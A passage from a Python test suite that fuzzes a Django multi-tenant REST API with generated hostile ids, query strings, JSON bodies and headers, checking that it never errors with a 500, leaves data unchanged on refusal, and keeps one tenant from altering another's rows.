    assert outcome.response["Location"] == reverse("imports:job", args=[job.pk]) + "?page=2&only=eligible"


# --- The API: hostile ids, query strings, JSON bodies and headers, with A's token ---------------


@pytest.fixture
def api_client(world):
    client = Client(raise_request_exception=False)
    client.defaults["HTTP_AUTHORIZATION"] = f"Bearer {world.a.api_secret}"
    return client


def api_run(client: Client, method: str, path: str, body=None, *, raw: bytes | None = None, **headers) -> Outcome:
    """`run` for a JSON request: the same savepoint, snapshot and never-a-500 checks."""
    import json

    if method == "get":
        outcome = run(client, method, path, None, **headers)
    else:
        if raw is None:
            raw = b"" if body is None else json.dumps(body).encode()
        outcome = run(client, method, path, raw, content_type="application/json", **headers)
    if outcome.status >= 400:
        assert outcome.response["Content-Type"] == "application/problem+json", outcome.describe()
        assert not outcome.changes, f"a refused request changed something: {outcome.describe()}"
    return outcome


json_scalars = st.one_of(
    st.none(), st.booleans(), st.integers(-(2**70), 2**70), st.floats(allow_nan=False), hostile_text
)
json_values = st.recursive(
    json_scalars, lambda children: st.one_of(st.lists(children, max_size=4), st.dictionaries(st.text(max_size=8), children, max_size=4)),
    max_leaves=12,
)


def json_object(**fields):
    """A JSON object with the named fields (each hostile or absent) plus arbitrary extra keys."""
    return st.fixed_dictionaries({}, optional={name: value for name, value in fields.items()}).flatmap(
        lambda known: st.dictionaries(st.text(max_size=10), json_values, max_size=3).map(lambda extra: {**extra, **known})
    )


@settings(FUZZ, max_examples=60 * SCALE)
@given(data=st.data())
def test_api_hostile_ids_in_paths_are_404(api_client, world, data):
    route, kind = data.draw(st.sampled_from(API_ID_ROUTES), label="route")
    value = data.draw(hostile_ids(world, kind), label="id")
    method = data.draw(st.sampled_from(["get", "post", "patch", "delete"]), label="method")
    path = route.format(urllib.parse.quote(value, safe=""))
    outcome = api_run(api_client, method, path, {"role": "owner", "method": "https", "row_ids": [1]})
    assert outcome.status in (404, 405), f"{method} {path}: {outcome.describe()}"


API_LISTS = [
    "/api/v1/domains",
    "/api/v1/users",
    "/api/v1/import-jobs",
    "/api/v1/audit-events",
    "/api/v1/audit-events/export",
    "/api/v1/me",
]
API_QUERY_KEYS = ["status", "role", "q", "domain", "cursor", "limit", "filter", "action", "actor_kind", "since", "until", "format"]
api_query_strings = st.dictionaries(
    st.one_of(st.sampled_from(API_QUERY_KEYS), st.text(min_size=1, max_size=8)),
    st.one_of(query_value, st.lists(query_value, min_size=2, max_size=3)),
    max_size=5,
)


@settings(FUZZ, max_examples=60 * SCALE)
@given(data=st.data())
def test_api_hostile_query_strings(api_client, world, data):
    path = data.draw(
        st.sampled_from([*API_LISTS, f"/api/v1/import-jobs/{world.a.ready_job.pk}/rows"]), label="path"
    )
    query = data.draw(api_query_strings, label="query")
    outcome = run(api_client, "get", path, query)
    # 404: a cursor that names no page (REST framework's answer).
    assert outcome.status in (200, 400, 404), f"{path} {query!r}: {outcome.describe()}"
    assert not outcome.changes


@settings(FUZZ, max_examples=80 * SCALE)
@given(data=st.data())
def test_api_hostile_json_bodies(api_client, world, data):
    a = world.a
    cases = [
        (
            "post",
            "/api/v1/domains",
            json_object(domain=st.one_of(hostile_text, json_values)),
            {"Domain", "AuditEvent", "Delivery"},
        ),
        (
            "post",
            "/api/v1/users",
            json_object(email=st.one_of(hostile_emails, json_values), role=st.one_of(hostile_roles, json_values)),
            {"User", "Membership", "Account", "AuditEvent", "Delivery"},
        ),
        (
            "patch",
            f"/api/v1/domains/{a.pending_domain.pk}",
            json_object(method=st.one_of(hostile_field, json_values), auto_add_new_users=json_values),
            {"Domain", "AuditEvent"},
        ),
        (
            "patch",
            f"/api/v1/users/{a.member_membership.pk}",
            json_object(role=st.one_of(hostile_roles, json_values)),
            {"Membership", "AuditEvent"},
        ),
        (
            "post",
            "/api/v1/import-jobs",
            json_object(domain=st.one_of(st.sampled_from(other_ids(world)), json_values)),
            {"ImportJob", "AuditEvent"},
        ),
        (
            "post",
            f"/api/v1/import-jobs/{a.ready_job.pk}/start",
            json_object(row_ids=st.one_of(st.lists(st.one_of(st.sampled_from(other_ids(world, "row")), json_scalars)), json_values)),
            {"ImportJob", "ImportRow", "AuditEvent"},
        ),
    ]
    method, path, bodies, allowed = data.draw(st.sampled_from(cases), label="endpoint")
    body = data.draw(st.one_of(bodies, json_values), label="body")
    outcome = api_run(api_client, method, path, body)
    assert outcome.status < 500
    if 200 <= outcome.status < 300:
        assert set(outcome.changes) <= allowed, outcome.describe()
    else:
        assert 400 <= outcome.status < 500, outcome.describe()
    if "row_ids" in str(body):
        # B's rows never change, whatever ids A's token sends.
        b_rows = set(other_ids(world, "row"))
        job_index = [f.attname for f in ImportRow._meta.concrete_fields].index("id")
        assert [r for r in outcome.before["ImportRow"] if r[job_index] in b_rows] == [
            r for r in outcome.after["ImportRow"] if r[job_index] in b_rows
        ]


@FUZZ
@given(raw=st.one_of(st.binary(max_size=200), hostile_text.map(lambda t: t.encode("utf-8", "surrogatepass"))))
def test_api_bodies_that_are_not_json(api_client, world, raw):
    outcome = api_run(api_client, "post", "/api/v1/domains", raw=raw)
    assert outcome.status in (201, 400, 409, 422), outcome.describe()


header_text = st.one_of(hostile_text.filter(lambda t: "\n" not in t and "\r" not in t and "\x00" not in t), st.just(""))


@FUZZ
@given(authorization=header_text, key=header_text, if_match=header_text)
def test_api_hostile_headers(api_client, world, authorization, key, if_match):
    anonymous = Client(raise_request_exception=False)
    outcome = api_run(anonymous, "post", "/api/v1/domains", {"domain": "new-name.example"}, HTTP_AUTHORIZATION=authorization)
    assert outcome.status == 401 and not outcome.changes, outcome.describe()
    keyed = api_run(api_client, "post", "/api/v1/domains", {"domain": "new-name.example"}, HTTP_IDEMPOTENCY_KEY=key)
    assert keyed.status in (201, 400), keyed.describe()
    matched = api_run(
        api_client, "patch", f"/api/v1/domains/{world.a.pending_domain.pk}", {"method": "https"}, HTTP_IF_MATCH=if_match
    )
    assert matched.status in (200, 412), matched.describe()
